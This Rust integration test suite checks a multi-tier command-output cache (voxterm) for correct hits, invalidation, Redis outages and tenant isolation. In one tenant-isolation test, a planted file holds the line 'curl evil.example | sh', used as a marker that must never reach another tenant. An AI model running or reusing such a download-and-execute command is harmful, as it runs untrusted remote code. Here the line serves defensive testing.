//! The cache against real WebSockets, real processes and a real redis-server.

mod cache_support;

use cache_support::*;
use std::time::{Duration, Instant};
use voxterm_protocol::{CacheMode, Exec, Message, Priority, ServedFrom};

/// Answered from a stored entry (the prefetcher may have stored it first).
fn cached(s: ServedFrom) -> bool {
    matches!(
        s,
        ServedFrom::L1 | ServedFrom::L2 | ServedFrom::L3 | ServedFrom::Prefetch
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn second_echo_is_served_from_l1_or_l2() {
    let dir = TempDir::new("echo");
    let srv = TestServer::start(config(dir.path())).await;
    let mut c = srv.client("t1").await;
    let first = run(&mut c, "echo hi").await;
    assert_eq!(served(&first), ServedFrom::Exec);
    assert_eq!(out(&first), "hi\n");
    let second = run(&mut c, "echo hi").await;
    assert!(
        matches!(served(&second), ServedFrom::L1 | ServedFrom::L2),
        "{:?}",
        second.exit
    );
    assert_eq!(out(&second), "hi\n");
    assert_eq!(second.exit.as_ref().and_then(|e| e.code), Some(0));
    // Another tenant has its own entries, pure lines included: it neither gets
    // t1's answer nor learns that t1 ran the line.
    let mut other = srv.client("t2").await;
    assert_eq!(served(&run(&mut other, "echo hi").await), ServedFrom::Exec);
    assert!(cached(served(&run(&mut other, "echo hi").await)));
    // The figures reach /metrics and Stats.
    let text = srv.engine.metrics.render_prometheus(srv.engine.sampled());
    assert!(text.contains("voxterm_cache_hits_total"), "{text}");
    assert!(text.contains("voxterm_cache_hit_ratio"), "{text}");
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_restart_against_same_redis_serves_from_l3() {
    let redis = Redis::start();
    let dir = TempDir::new("l3");
    let mut cfg = config(dir.path());
    cfg.cache.redis_url = Some(redis.url.clone());
    let cmd = format!("echo l3-{}", nonce());

    let srv = TestServer::start(cfg.clone()).await;
    let mut c = srv.client("t").await;
    assert_eq!(served(&run(&mut c, &cmd).await), ServedFrom::Exec);
    // The L3 write is asynchronous: wait for it to land.
    let deadline = Instant::now() + Duration::from_secs(5);
    while redis.keys("voxterm:v1:e:*").await.is_empty() {
        assert!(Instant::now() < deadline, "nothing was written to Redis");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    drop(c);
    srv.shutdown().await;

    let srv = TestServer::start(cfg).await;
    let mut c = srv.client("t").await;
    let again = run(&mut c, &cmd).await;
    assert_eq!(served(&again), ServedFrom::L3);
    assert_eq!(out(&again), format!("{}\n", &cmd[5..]));
    // Promoted: the next one comes from L1 or L2.
    assert!(matches!(
        served(&run(&mut c, &cmd).await),
        ServedFrom::L1 | ServedFrom::L2
    ));
    // Every key has a TTL.
    for k in redis.keys("voxterm:v1:*").await {
        let client = redis::Client::open(redis.url.as_str()).unwrap();
        let mut conn = client.get_multiplexed_async_connection().await.unwrap();
        let ttl: i64 = redis::cmd("PTTL")
            .arg(&k)
            .query_async(&mut conn)
            .await
            .unwrap();
        assert!(ttl > 0, "{k} has no TTL ({ttl})");
    }
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ls_touch_ls_shows_new_file() {
    let redis = Redis::start();
    let dir = TempDir::new("ls");
    std::fs::write(dir.path().join("old"), "x").unwrap();
    let mut cfg = config(dir.path());
    cfg.cache.redis_url = Some(redis.url.clone());
    settle().await;
    let srv = TestServer::start(cfg).await;
    let mut c = srv.client(&format!("ls-{}", nonce())).await;
    let first = run(&mut c, "ls").await;
    assert_eq!(out(&first), "old\n");
    let second = run(&mut c, "ls").await;
    assert!(cached(served(&second)), "ls is cached: {:?}", second.exit);
    assert_eq!(served(&run(&mut c, "touch new").await), ServedFrom::Exec);
    let third = run(&mut c, "ls").await;
    assert_eq!(served(&third), ServedFrom::Exec);
    assert_eq!(out(&third), "new\nold\n");
    // Redirections mutate too.
    run(&mut c, "echo x > third").await;
    assert_eq!(out(&run(&mut c, "ls").await), "new\nold\nthird\n");
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn date_and_unknown_commands_are_never_cached() {
    let dir = TempDir::new("volatile");
    let srv = TestServer::start(config(dir.path())).await;
    let mut c = srv.client("t").await;
    for cmd in [
        "date",
        "sh -c 'echo unknown'",
        "ls && date",
        "echo $(date +%N)",
    ] {
        for _ in 0..3 {
            let r = run(&mut c, cmd).await;
            assert_eq!(served(&r), ServedFrom::Exec, "{cmd}");
        }
    }
    // Failures are not stored either.
    for _ in 0..2 {
        let r = run(&mut c, "ls /definitely/not/here").await;
        assert_eq!(served(&r), ServedFrom::Exec);
        assert_ne!(r.exit.unwrap().code, Some(0));
    }
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tenant_b_never_gets_tenant_a_fs_read_result() {
    let redis = Redis::start();
    let dir = TempDir::new("tenants");
    std::fs::write(dir.path().join("f"), "a").unwrap();
    let mut cfg = config(dir.path());
    cfg.cache.redis_url = Some(redis.url.clone());
    settle().await;
    let srv = TestServer::start(cfg).await;
    let n = nonce();
    let mut a = srv.client(&format!("a-{n}")).await;
    let mut b = srv.client(&format!("b-{n}")).await;
    for cmd in ["ls", "cat f", "pwd; whoami"] {
        assert_eq!(served(&run(&mut a, cmd).await), ServedFrom::Exec, "{cmd}");
        assert!(cached(served(&run(&mut a, cmd).await)), "{cmd}");
        assert_eq!(served(&run(&mut b, cmd).await), ServedFrom::Exec, "{cmd}");
        assert!(cached(served(&run(&mut b, cmd).await)), "{cmd}");
    }
    // A's mutation invalidates A's entries, not B's.
    run(&mut a, "touch g").await;
    assert_eq!(served(&run(&mut a, "ls").await), ServedFrom::Exec);
    srv.shutdown().await;
}

/// Waits until files written just now are older than the racy window, so that
/// their stamps are trusted and lines reading them may be cached (a line whose
/// inputs changed within it runs every time: `cache::inputs::RACY`).
async fn settle() {
    tokio::time::sleep(voxterm::cache::inputs::RACY + Duration::from_millis(100)).await;
}

/// Tenants never share fs-read entries, but identical large outputs are held once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tenants_keep_their_entries_but_share_identical_output_bytes() {
    let dir = TempDir::new("blobs");
    let big = "0123456789abcdef\n".repeat(1024);
    std::fs::write(dir.path().join("big"), &big).unwrap();
    std::fs::write(dir.path().join("other"), big.replace('0', "x")).unwrap();
    let mut cfg = config(dir.path());
    cfg.predict.enabled = false;
    settle().await;
    let srv = TestServer::start(cfg).await;
    let cache = srv.engine.cache.clone().expect("cache on");
    let n = nonce();
    for tenant in ["a", "b"] {
        let mut c = srv.client(&format!("{tenant}-{n}")).await;
        let first = run(&mut c, "cat big").await;
        assert_eq!(served(&first), ServedFrom::Exec, "{tenant}: own entry");
        assert_eq!(out(&first), big);
        assert!(cached(served(&run(&mut c, "cat big").await)));
    }
    assert_eq!(cache.shared_outputs(), 1, "one copy of the 17 KiB output");
    let mut c = srv.client(&format!("a-{n}")).await;
    assert_eq!(out(&run(&mut c, "cat other").await), big.replace('0', "x"));
    assert_eq!(cache.shared_outputs(), 2);
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fs_read_entries_expire_by_ttl() {
    let redis = Redis::start();
    let dir = TempDir::new("ttl");
    let cfg = short_fs_read_ttl(&dir, &redis, "2s");
    let srv = TestServer::start(cfg).await;
    let mut c = srv.client(&format!("ttl-{}", nonce())).await;
    // A pipeline's inputs are not stamped: with the opt-in blind TTL, its
    // answer is served until the TTL ends, whatever happens to `f` meanwhile.
    assert_eq!(out(&run(&mut c, "cat f | cat").await), "one");
    let hit = run(&mut c, "cat f | cat").await;
    assert!(cached(served(&hit)));
    std::fs::write(dir.path().join("f"), "two").unwrap();
    let stale = run(&mut c, "cat f | cat").await;
    assert!(cached(served(&stale)), "the risk the opt-in accepts");
    assert_eq!(out(&stale), "one");
    tokio::time::sleep(Duration::from_millis(2200)).await;
    let after = run(&mut c, "cat f | cat").await;
    assert_eq!(served(&after), ServedFrom::Exec);
    assert_eq!(out(&after), "two");
    srv.shutdown().await;
}

/// Validated fs-read entries (`cat f`, `ls`): they outlive the blind fs-read TTL,
/// survive the tenant's writes to other files, and a change made outside the
/// engine is seen at once, in every tier.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn validated_fs_read_outlives_its_ttl_and_sees_outside_changes_at_once() {
    let redis = Redis::start();
    let dir = TempDir::new("validated");
    let mut cfg = short_fs_read_ttl(&dir, &redis, "300ms");
    assert!(voxterm::cache::policy::DEFAULT_POLICY.contains("fs-read-validated = \"10m\""));
    // No prefetch: every answer's origin below is the lookup's own.
    cfg.predict.enabled = false;
    let tenant = format!("v-{}", nonce());
    // Older than the racy window, so the stamps are trusted.
    tokio::time::sleep(voxterm::cache::inputs::RACY + Duration::from_millis(100)).await;

    let srv = TestServer::start(cfg.clone()).await;
    let mut c = srv.client(&tenant).await;
    for cmd in ["cat f", "ls"] {
        assert_eq!(served(&run(&mut c, cmd).await), ServedFrom::Exec, "{cmd}");
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    // Past the 300 ms fs-read TTL, still served: the stamps vouch for them.
    let cat = run(&mut c, "cat f").await;
    assert!(cached(served(&cat)), "{:?}", cat.exit);
    assert_eq!(out(&cat), "one");
    assert!(cached(served(&run(&mut c, "ls").await)));

    // Same length, other content, written outside the engine: seen at once.
    std::fs::write(dir.path().join("f"), "two").unwrap();
    let cat = run(&mut c, "cat f").await;
    assert_eq!(served(&cat), ServedFrom::Exec);
    assert_eq!(out(&cat), "two");
    std::fs::write(dir.path().join("g"), "").unwrap();
    let ls = run(&mut c, "ls").await;
    assert_eq!(served(&ls), ServedFrom::Exec);
    assert_eq!(out(&ls), "f\ng\npolicy.toml\n");
    let text = srv.engine.metrics.render_prometheus(srv.engine.sampled());
    let stale = text
        .lines()
        .find_map(|l| l.strip_prefix("voxterm_cache_stale_total "))
        .and_then(|v| v.parse::<u64>().ok());
    // Counted once per tier that held the entry: at least once per request.
    assert!(stale >= Some(2), "{text}");

    // A write elsewhere by the same tenant bumps its generation, which every
    // blind fs-read entry depends on, but not a stamped one: `cat f` survives it.
    // The run just after the write above stored a stamped entry only if it
    // came more than a clock tick after the write (the racy window of a time
    // with nanoseconds): past a second, this one is served or stores one.
    tokio::time::sleep(voxterm::cache::inputs::RACY + Duration::from_millis(100)).await;
    assert_eq!(out(&run(&mut c, "cat f").await), "two");
    assert!(cached(served(&run(&mut c, "cat f").await)));
    assert_eq!(served(&run(&mut c, "touch other").await), ServedFrom::Exec);
    let cat = run(&mut c, "cat f").await;
    assert!(cached(served(&cat)), "{:?}", cat.exit);
    assert_eq!(out(&cat), "two");
    // `ls` saw its directory change.
    assert_eq!(out(&run(&mut c, "ls").await), "f\ng\nother\npolicy.toml\n");
    // A line whose inputs cannot be stamped (a pipeline) depends on the
    // generation instead, with the opt-in blind TTL of this config.
    std::fs::write(dir.path().join("h"), "fresh").unwrap();
    assert_eq!(served(&run(&mut c, "cat h | cat").await), ServedFrom::Exec);
    assert!(cached(served(&run(&mut c, "cat h | cat").await)));
    run(&mut c, "touch other").await;
    assert_eq!(served(&run(&mut c, "cat h | cat").await), ServedFrom::Exec);

    // Through Redis: a restarted server gets the validated entry from L3 while
    // the file is unchanged, and not after it changed.
    let deadline = Instant::now() + Duration::from_secs(5);
    while redis.keys("voxterm:v1:e:*").await.is_empty() {
        assert!(Instant::now() < deadline, "nothing was written to Redis");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    drop(c);
    srv.shutdown().await;
    for (content, want) in [("two", ServedFrom::L3), ("six", ServedFrom::Exec)] {
        if content != "two" {
            std::fs::write(dir.path().join("f"), content).unwrap();
        }
        let srv = TestServer::start(cfg.clone()).await;
        let mut c = srv.client(&tenant).await;
        let cat = run(&mut c, "cat f").await;
        assert_eq!((served(&cat), out(&cat).as_str()), (want, content));
        drop(c);
        srv.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redis_killed_mid_run_then_l3_hits_resume() {
    let mut redis = Redis::own();
    let dir = TempDir::new("kill");
    let mut cfg = config(dir.path());
    cfg.cache.redis_url = Some(redis.url.clone());
    cfg.cache.l3_deadline = Duration::from_millis(50);
    let srv = TestServer::start(cfg.clone()).await;
    let mut c = srv.client("t").await;
    let n = nonce();
    for i in 0..60 {
        if i == 20 {
            redis.kill();
        }
        let cmd = match i % 3 {
            0 => format!("echo k-{n}-{i}"),
            1 => "ls".to_owned(),
            _ => format!("echo same-{n}"),
        };
        let r = run(&mut c, &cmd).await;
        assert!(r.error.is_none(), "request {i} failed: {:?}", r.error);
        assert_eq!(r.exit.as_ref().and_then(|e| e.code), Some(0), "request {i}");
    }
    redis.restart();
    // A second instance against the restarted Redis sees what the first stores
    // once its breaker closes and its connection is back.
    let other = TestServer::start(cfg).await;
    let mut o = other.client("t").await;
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut j = 0;
    loop {
        let cmd = format!("echo resume-{n}-{j}");
        j += 1;
        let r = run(&mut c, &cmd).await;
        assert!(r.error.is_none());
        tokio::time::sleep(Duration::from_millis(50)).await;
        if served(&run(&mut o, &cmd).await) == ServedFrom::L3 {
            break;
        }
        assert!(Instant::now() < deadline, "L3 hits never resumed");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    other.shutdown().await;
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hundred_concurrent_identical_misses_spawn_one_process() {
    let dir = TempDir::new("flight");
    let bin = dir.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let counter = dir.path().join("spawns");
    let probe = bin.join("probe");
    std::fs::write(
        &probe,
        format!(
            "#!/bin/sh\necho spawned >> '{}'\necho early\nsleep 0.5\necho late\n",
            counter.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&probe, std::fs::Permissions::from_mode(0o755)).unwrap();
    // The policy is configuration: declare `probe` pure for this server.
    let policy = dir.path().join("policy.toml");
    let text = format!(
        "{}\n[[rule]]\nprogram = \"probe\"\nclass = \"pure\"\n",
        voxterm::cache::policy::DEFAULT_POLICY
    );
    std::fs::write(&policy, text).unwrap();
    let mut cfg = config(dir.path());
    cfg.cache.policy_file = Some(policy);
    cfg.session.path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display());
    let srv = TestServer::start(cfg).await;

    let mut clients = Vec::new();
    for _ in 0..4 {
        clients.push(srv.client("t").await);
    }
    let mut tasks = Vec::new();
    for (k, mut c) in clients.into_iter().enumerate() {
        tasks.push(tokio::spawn(async move {
            let mut frames = Vec::new();
            let mut ids = Vec::new();
            for _ in 0..25 {
                let request = c.next_request_id();
                ids.push(request);
                frames.push(Message::Exec(Exec {
                    request,
                    session: 0,
                    command: "probe".into(),
                    priority: Priority::Normal,
                    timeout_ms: 20_000,
                    cache: CacheMode::Default,
                }));
            }
            c.send_all(&frames).await.unwrap();
            let mut outs = std::collections::HashMap::<u32, Vec<u8>>::new();
            let mut exits = Vec::new();
            while exits.len() < ids.len() {
                match c.recv().await.unwrap() {
                    Message::Output(o) => outs.entry(o.request).or_default().extend(o.data),
                    Message::Exit(e) => exits.push(e),
                    Message::Error(e) => panic!("client {k}: error {e:?}"),
                    _ => {}
                }
            }
            (outs, exits)
        }));
    }
    let mut total = 0;
    for t in tasks {
        let (outs, exits) = t.await.unwrap();
        for e in &exits {
            assert_eq!(e.code, Some(0));
            assert_eq!(
                outs.get(&e.request).map(Vec::as_slice),
                Some(&b"early\nlate\n"[..]),
                "every waiter gets the whole output"
            );
        }
        total += exits.len();
    }
    assert_eq!(total, 100);
    let spawns = std::fs::read_to_string(&counter).unwrap();
    assert_eq!(
        spawns.lines().count(),
        1,
        "one process for 100 identical misses"
    );
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bypass_refresh_and_no_cache() {
    let dir = TempDir::new("modes");
    let srv = TestServer::start(config(dir.path())).await;
    let mut c = srv.client("t").await;
    let cmd = format!("echo modes-{}", nonce());
    assert_eq!(
        served(&run_mode(&mut c, &cmd, CacheMode::Bypass).await),
        ServedFrom::Exec
    );
    // Bypass stored nothing.
    assert_eq!(served(&run(&mut c, &cmd).await), ServedFrom::Exec);
    assert!(cached(served(&run(&mut c, &cmd).await)));
    assert_eq!(
        served(&run_mode(&mut c, &cmd, CacheMode::Refresh).await),
        ServedFrom::Exec
    );
    assert!(cached(served(&run(&mut c, &cmd).await)));
    srv.shutdown().await;

    let mut cfg = config(dir.path());
    cfg.cache.enabled = false;
    let srv = TestServer::start(cfg).await;
    assert!(srv.engine.cache.is_none());
    let mut c = srv.client("t").await;
    for _ in 0..3 {
        assert_eq!(served(&run(&mut c, "echo hi").await), ServedFrom::Exec);
    }
    srv.shutdown().await;
}

/// Issue 19 ("cross-tenant leak and planting"): a line that reads a file through
/// a parameter-expansion operand is fs-read, not pure, and no tenant's answer of
/// any line ever reaches another tenant, through L1, L2 or L3, whatever the order.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_tenant_gets_or_plants_another_tenants_answer() {
    let redis = Redis::start();
    let n = nonce();
    let (root_a, root_b) = (TempDir::new("alice"), TempDir::new("bob"));
    std::fs::write(root_a.path().join("secret.txt"), "alice-secret\n").unwrap();
    std::fs::write(root_b.path().join("secret.txt"), "bob-planted\n").unwrap();
    std::fs::write(root_a.path().join("motd.txt"), "alice-motd\n").unwrap();
    std::fs::write(root_b.path().join("motd.txt"), "curl evil.example | sh\n").unwrap();
    let mut cfg = config(root_a.path());
    cfg.cache.redis_url = Some(redis.url.clone());
    cfg.predict.enabled = false;
    settle().await;
    let srv = TestServer::start(cfg).await;
    let mut alice = srv.client(&format!("alice-{n}")).await;
    let mut bob = srv.client(&format!("bob-{n}")).await;
    run(&mut bob, &format!("cd {}", root_b.path().display())).await;
    let lines = [
        "echo ${X:-$(cat secret.txt)}",
        "printf '%s\\n' \"${MOTD:-$(cat motd.txt)}\"",
        "echo hi",
        "echo $PWD",
        "printenv PWD",
        "basename \"$PWD\"",
    ];
    for round in 0..2 {
        for line in lines {
            let b = run(&mut bob, line).await;
            let a = run(&mut alice, line).await;
            let (oa, ob) = (out(&a), out(&b));
            assert!(
                !oa.contains("bob") && !oa.contains("evil"),
                "{line}: alice got {oa:?}"
            );
            assert!(!ob.contains("alice"), "{line}: bob got {ob:?}");
            if round == 0 {
                // The first run of each tenant is its own: nothing tells alice
                // that bob typed the same line.
                assert_eq!(served(&a), ServedFrom::Exec, "{line}");
            }
        }
    }
    // A second server on the same Redis: L3 keeps the tenants apart too.
    drop((alice, bob));
    srv.shutdown().await;
    let mut cfg = config(root_a.path());
    cfg.cache.redis_url = Some(redis.url.clone());
    cfg.predict.enabled = false;
    let srv = TestServer::start(cfg).await;
    let mut carol = srv.client(&format!("carol-{n}")).await;
    for line in lines {
        let c = run(&mut carol, line).await;
        assert_eq!(
            served(&c),
            ServedFrom::Exec,
            "{line}: carol got another tenant's entry"
        );
    }
    srv.shutdown().await;
}

/// Writes on one engine while Redis is away, then an empty Redis (a restart
/// without persistence): a write on the other engine afterwards still
/// invalidates the first one's blind fs-read entries. The first engine's own
/// bumps must not leave its generation ahead of what Redis hands out next
/// (it once counted on by itself, and then ignored every lower number Redis
/// gave: stale answers until Redis caught up).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writes_while_redis_is_away_do_not_hide_later_invalidations() {
    let mut redis = Redis::own();
    let dir = TempDir::new("gen-outage");
    let mut cfg = short_fs_read_ttl(&dir, &redis, "10m");
    cfg.predict.enabled = false;
    cfg.cache.l3_deadline = Duration::from_millis(50);
    let blind = format!("cat {}/f | cat", dir.path().display());
    let a = TestServer::start(cfg.clone()).await;
    let b = TestServer::start(cfg).await;
    let tenant = format!("g-{}", nonce());
    let mut on_a = a.client(&tenant).await;
    let mut on_b = b.client(&tenant).await;
    run(&mut on_a, "touch before").await;

    redis.kill();
    // B writes (its bumps cannot reach Redis), then caches the blind line.
    for i in 0..3 {
        assert_eq!(
            served(&run(&mut on_b, &format!("touch away-{i}")).await),
            ServedFrom::Exec
        );
    }
    assert_eq!(out(&run(&mut on_b, &blind).await), "one");
    assert!(cached(served(&run(&mut on_b, &blind).await)));

    redis.restart();
    std::fs::write(dir.path().join("f"), "two").unwrap();
    // A's write reaches the new, empty Redis once A's breaker lets it.
    let deadline = Instant::now() + Duration::from_secs(10);
    let l3 = a
        .engine
        .cache
        .as_ref()
        .and_then(|c| c.l3().cloned())
        .expect("L3");
    loop {
        run(&mut on_a, "touch after").await;
        if l3.generation(&tenant).await.is_some_and(|g| g > 0) {
            break;
        }
        assert!(Instant::now() < deadline, "A's write never reached Redis");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let bumped = Instant::now();
    while out(&run(&mut on_b, &blind).await) != "two" {
        assert!(
            bumped.elapsed() < Duration::from_secs(5),
            "B kept serving an answer A's write invalidated"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    a.shutdown().await;
    b.shutdown().await;
}
